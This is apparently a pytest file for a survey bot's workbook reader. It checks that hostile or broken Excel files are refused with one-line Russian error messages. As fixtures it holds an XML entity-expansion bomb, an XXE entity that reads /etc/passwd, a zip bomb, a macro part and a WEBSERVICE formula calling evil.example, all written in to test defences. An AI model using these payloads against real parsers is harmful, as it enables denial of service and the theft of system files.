"""Workbooks made to do harm: each is refused in a line, and nothing in them is run or followed."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping

import pytest
from openpyxl import Workbook, load_workbook

from bot.surveys.loader import BadScripts
from bot.surveys.xlsform.filling import Wanted
from bot.workbooks.apart import LARGEST
from bot.workbooks.reading import read
from config.directories import shipped
from tests.surveys.forms import saved, workbook

SHEET = "xl/worksheets/sheet1.xml"
BOMB = b"""<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "aaaaaaaaaaaaaaaaaaaa">
%s]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>&e9;</t></is></c></row></sheetData></worksheet>"""
ENTITIES = b"".join(
    b'<!ENTITY e%d "%s">' % (n, b"&%s;" % (b"a" if n == 0 else b"e%d" % (n - 1)) * 10)
    for n in range(10)
)
SECRET = b"""<?xml version="1.0"?><!DOCTYPE b [<!ENTITY s SYSTEM "file:///etc/passwd">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>&s;</t></is></c></row></sheetData></worksheet>"""


def told(data: bytes, name: str = "a.xlsx") -> list[str]:
    with pytest.raises(BadScripts) as bad:
        read(data, name, Wanted(direction="functions"), shipped())
    return list(bad.value.faults)


def with_parts(data: bytes, parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, body in parts.items():
            new.writestr(name, body)
    return out.getvalue()


def of_zeros() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for number in range(3):
            made.writestr(f"xl/{number}.xml", b"\0" * (10 << 20))
    return out.getvalue()


def of_open_document() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        made.writestr("content.xml", "<a/>")
    return out.getvalue()


def without_survey() -> bytes:
    return saved(Workbook())


WHY = {
    "zeros": (of_zeros(), "не получается прочитать книгу Excel"),
    "entities": (with_parts(workbook(), {SHEET: BOMB % ENTITIES}), "не получается прочитать"),
    "secret": (with_parts(workbook(), {SHEET: SECRET}), "не получается прочитать книгу Excel"),
    "torn": (workbook()[:-200], "не получается прочитать книгу Excel"),
    "macros": (with_parts(workbook(), {"xl/vbaProject.bin": b"x"}), "в книге есть макросы"),
    "ods": (of_open_document(), "это таблица .ods"),
    "old": (b"\xd0\xcf\x11\xe0" + b"x" * 100, "это старая книга .xls или книга под паролем"),
    "text": (b"type,name,label", "это не книга Excel"),
    "empty": (b"", "это не книга Excel"),
    "large": (b"PK\x03\x04" + b"x" * LARGEST, "файл слишком большой для анкеты"),
    "other": (without_survey(), "нет листа survey с вопросами"),
}


@pytest.mark.parametrize("name", WHY)
def test_what_is_no_survey_is_refused_in_one_line(name: str) -> None:
    data, why = WHY[name]

    (line,) = told(data)

    assert line.startswith(f"a.xlsx: {why}")


def test_a_formula_an_error_and_a_column_given_twice_are_named_by_their_cells() -> None:
    book = load_workbook(io.BytesIO(workbook()))
    book["survey"]["C7"] = '=WEBSERVICE("http://evil.example/")&"?"'
    book["choices"]["C2"] = "#REF!"
    book["choices"]["C2"].data_type = "e"
    book["choices"]["D1"] = "label"

    lines = told(saved(book))

    assert lines == [
        "a.xlsx, лист survey, строка 7: в ячейке C7 формула: замените её значением",
        "a.xlsx, лист choices, строка 1: столбец в ячейке D1 уже есть левее",
        "a.xlsx, лист choices, строка 2: в ячейке C2 ошибка Excel: исправьте её",
    ]


def test_more_rows_than_any_survey_has_are_not_read() -> None:
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.title = "survey"
    sheet.append(["type", "name", "label"])
    sheet.cell(900_000, 1, "text")

    assert told(saved(book)) == ["a.xlsx: файл слишком большой для анкеты"]


def test_words_that_would_be_code_elsewhere_stay_words() -> None:
    found = read(
        workbook(settings=(("form_title", "form_id"), ("<b>&=1+1", "park"))),
        "a.xlsx",
        Wanted(direction="functions"),
        shipped(),
    )

    assert found.survey.title == "<b>&=1+1"


HEAD = ["type", "name", "label", "relevant", "constraint", "otklik_longest"]
MARKS = [["list_name", "name", "label"], *(["m", str(n), str(n)] for n in range(1, 6))]


def survey(*rows: list[str]) -> bytes:
    made = Workbook()
    sheets = {"survey": [HEAD, *rows], "choices": MARKS, "settings": [["form_title"], ["О дворах"]]}
    for name, lines in sheets.items():
        sheet = made.create_sheet(name)
        for line in lines:
            sheet.append(line)
    return saved(made)


@pytest.mark.parametrize(
    "row",
    [
        ["select_one m", "q2", "А как?", "${q1} = '--5'"],
        ["text", "q2", "А как?", "", "", "9" * 5000],
        [
            "select_multiple none",
            "q2",
            "Что?",
            "",
            "not(selected(., 'a') and count-selected(.) > 1)",
        ],
    ],
    ids=["a number that is none", "a number without end", "a list that is not there"],
)
def test_a_cell_of_nonsense_is_told_by_its_row(row: list[str]) -> None:
    faults = told(survey(["select_one m", "q1", "Как вам?"], row, ["text", "q3", "Ещё?"]))

    assert [fault for fault in faults if "строка 3" in fault]


def test_questions_by_the_hundred_are_told_in_a_line() -> None:
    faults = told(survey(*(["select_one m", f"q{n}", "Как вам?"] for n in range(390))))

    assert any("вопросов 390, а нужно от 3 до 9" in fault for fault in faults)


def test_a_script_larger_than_any_is_not_read() -> None:
    data = b"id: zz\nquestions:\n" + b"  - {id: q, text: a}\n" * 20_000

    assert told(data, "zz.yaml") == ["zz.yaml: файл слишком большой для анкеты"]
